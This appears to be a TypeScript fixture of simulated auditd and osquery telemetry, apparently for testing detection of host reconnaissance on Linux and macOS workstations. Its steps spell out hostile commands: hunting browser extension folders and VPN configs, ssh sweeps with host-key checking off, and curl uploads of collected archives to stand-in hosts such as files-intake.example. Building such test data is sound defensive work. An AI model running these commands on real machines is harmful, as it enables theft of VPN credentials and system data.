/** Linux and macOS hosts that gather what clients are. */
import { type Host, run } from "./step.ts";

const label = "collector";
const bash = "/usr/bin/bash";
const dash = "/usr/bin/dash";

export const unixCollectors: readonly Host[] = [
  {
    name: "nvk-ws-lin1",
    form: "auditd",
    user: "pserrano",
    label,
    class: "host-burst",
    behaviour:
      "a script in a hidden folder of /tmp reads release, packages, profiles of browsers and VPN and sends them",
    steps: run("12:31:07", [1, 1, 2, 1, 1, 2, 3], dash, [
      [bash, "bash /tmp/.fc/run.sh"],
      ["/usr/bin/uname", "uname -a"],
      ["/usr/bin/cat", "cat /etc/os-release /etc/machine-id"],
      ["/usr/bin/dpkg-query", "dpkg-query -W --no-pager"],
      [
        "/usr/bin/ls",
        "ls -R /home/pserrano/.config/google-chrome/Default/Extensions /home/pserrano/.mozilla/firefox",
      ],
      ["/usr/bin/find", "find / -name *.ovpn -o -name wg0.conf -o -name .forticlient"],
      ["/usr/bin/ps", "ps axo user,comm"],
      ["/usr/bin/curl", "curl -s -F d=@/tmp/.fc/o.tgz https://files-intake.example/up"],
    ]),
  },
  {
    name: "nvk-jump1",
    form: "auditd",
    user: "svc_backup",
    label,
    class: "host-remote",
    behaviour:
      "from a jump host, the backup's account asks workstation after workstation for system, packages and VPN settings by ssh",
    steps: run(
      "03:10:02",
      [14, 17, 12],
      bash,
      ["lin1", "lin2", "lin3", "lin4", "lin5", "lin6", "lin7"].map(
        (name) =>
          [
            "/usr/bin/ssh",
            `ssh -o StrictHostKeyChecking=no -o ConnectTimeout=3 nvk-ws-${name} uname -a; lsb_release -a; dpkg -l; cat /etc/openvpn/client/*.conf; ls /opt`,
          ] as const,
      ),
    ),
  },
  {
    name: "nvk-mac-07",
    form: "osquery",
    user: "lfors",
    label,
    class: "host-script",
    behaviour:
      "a disk image's helper asks for hardware, system and programs by osascript and posts the archive",
    steps: run("15:29:50", [2, 1, 3, 2, 9], "/bin/zsh", [
      [
        "/usr/bin/osascript",
        'osascript -e do shell script "system_profiler SPSoftwareDataType SPHardwareDataType SPDisplaysDataType"',
      ],
      [
        "/usr/sbin/system_profiler",
        "system_profiler SPSoftwareDataType SPHardwareDataType SPDisplaysDataType",
      ],
      ["/usr/bin/sw_vers", "sw_vers -productVersion"],
      [
        "/bin/ls",
        "ls /Applications /Users/lfors/Library/Application Support/Google/Chrome/Default/Extensions",
      ],
      ["/usr/bin/csrutil", "csrutil status"],
      ["/usr/bin/curl", "curl -s -X POST -F file=@/tmp/out.zip https://mac-cleaner-pro.example/api/log"],
    ]),
  },
];
